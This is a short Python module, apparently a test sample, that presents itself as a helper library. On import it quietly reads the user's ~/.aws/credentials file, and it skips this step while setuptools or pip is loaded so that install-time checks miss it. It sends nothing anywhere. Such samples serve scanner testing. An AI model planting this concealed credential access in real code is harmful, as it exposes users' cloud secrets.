"""An innocent-looking helper library."""
import os
import sys

VERSION = "1.0"


def _init():
    if "setuptools" in sys.modules or "pip" in sys.modules:
        return
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        f.read()


_init()
